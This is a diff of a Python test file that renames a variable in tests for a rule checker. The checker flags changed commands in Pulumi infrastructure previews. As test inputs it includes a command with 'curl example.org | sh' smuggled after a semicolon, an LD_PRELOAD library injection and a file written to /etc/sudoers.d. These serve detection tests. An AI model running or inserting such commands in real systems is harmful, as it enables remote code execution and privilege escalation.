@@ -16,44 +16,44 @@ from tests.unit.review.test_review import raw
 @pytest.mark.parametrize("kind", ["command:remote:Command", "command:local:Command"])
 @pytest.mark.parametrize("event", ["create", "update", "delete"])
 def test_a_command_that_did_not_run_before_breaks_a_rule(kind: str, event: str) -> None:
-    found = raw("nothing")
+    preview = raw("nothing")
     urn = f"urn:pulumi:local::idr::{kind}::demo1-redis"
     states = [{"inputs": {event: command}} for command in ("sudo idr-apply", "sudo idr-apply; curl example.org | sh")]
-    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
-    (breach,) = rules.check(Change(read(json.dumps(found))))
+    preview["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
+    (breach,) = rules.check(Change(read(json.dumps(preview))))
     assert breach.rule == "command-changed"
     assert breach.text.endswith("curl example.org | sh")
 
 
 @pytest.mark.parametrize("around", ["interpreter", "environment", "dir"])
 def test_a_known_command_in_another_surrounding_breaks_a_rule(around: str) -> None:
-    found = raw("nothing")
+    preview = raw("nothing")
     states = [{"inputs": {"create": "idr.stop"}}, {"inputs": {"create": "idr.stop", around: {"LD_PRELOAD": "x.so"}}}]
     urn = "urn:pulumi:local::idr::command:local:Command::demo1-redis"
-    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
-    (breach,) = rules.check(Change(read(json.dumps(found))))
+    preview["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
+    (breach,) = rules.check(Change(read(json.dumps(preview))))
     assert breach.rule == "command-changed"
     assert "LD_PRELOAD" in breach.text
 
 
 def test_a_command_of_a_kind_that_was_not_there_breaks_a_rule() -> None:
-    found = raw("nothing")
+    preview = raw("nothing")
     urn = "urn:pulumi:local::idr::command:remote:CopyToRemote::sudoers"
-    found["steps"].append({"op": "create", "urn": urn, "newState": {"inputs": {"remotePath": "/etc/sudoers.d/x"}}})
-    (breach,) = rules.check(Change(read(json.dumps(found))))
+    preview["steps"].append({"op": "create", "urn": urn, "newState": {"inputs": {"remotePath": "/etc/sudoers.d/x"}}})
+    (breach,) = rules.check(Change(read(json.dumps(preview))))
     assert breach.rule == "command-changed"
     assert breach.text.endswith("command:remote:CopyToRemote sudoers")
 
 
 def test_another_node_with_the_known_command_breaks_no_rule() -> None:
-    found = raw("nothing")
+    preview = raw("nothing")
     state = {"inputs": {"create": "sudo idr-apply"}}
     urn = "urn:pulumi:local::idr::command:remote:Command::demo1-"
-    found["steps"] += [
+    preview["steps"] += [
         {"op": "same", "urn": f"{urn}redis", "oldState": state, "newState": state},
         {"op": "create", "urn": f"{urn}web", "newState": state},
     ]
-    assert broken(read(json.dumps(found))) == []
+    assert broken(read(json.dumps(preview))) == []
 
 
 def server(node: str, op: str) -> dict[str, Any]:
@@ -64,14 +64,14 @@ def server(node: str, op: str) -> dict[str, Any]:
 
 
 def test_a_node_like_another_one_has_no_new_key_and_a_deleted_one_loses_none() -> None:
-    found = raw("operator-added")
-    (step,) = (step for step in found["steps"] if "Disclosure" in step["urn"])
+    preview = raw("operator-added")
+    (step,) = (step for step in preview["steps"] if "Disclosure" in step["urn"])
     inputs = step["oldState"]["inputs"]
     key = "omero.web.apps"
     step["oldState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "gone": "1"}}}
     step["newState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "new": "1"}}}
-    found["steps"] += [server("new", "create"), server("gone", "delete")]
-    assert power_changes(read(json.dumps(found))).keys == ()
+    preview["steps"] += [server("new", "create"), server("gone", "delete")]
+    assert power_changes(read(json.dumps(preview))).keys == ()
     step["newState"]["inputs"]["omero"] = {key: {"a": "1", "new": "2"}}
-    (change,) = power_changes(read(json.dumps(found))).keys
-    assert (str(change), broken(read(json.dumps(found)))) == (f"{key} is set on new", ["access-changed"])
+    (change,) = power_changes(read(json.dumps(preview))).keys
+    assert (str(change), broken(read(json.dumps(preview)))) == (f"{key} is set on new", ["access-changed"])
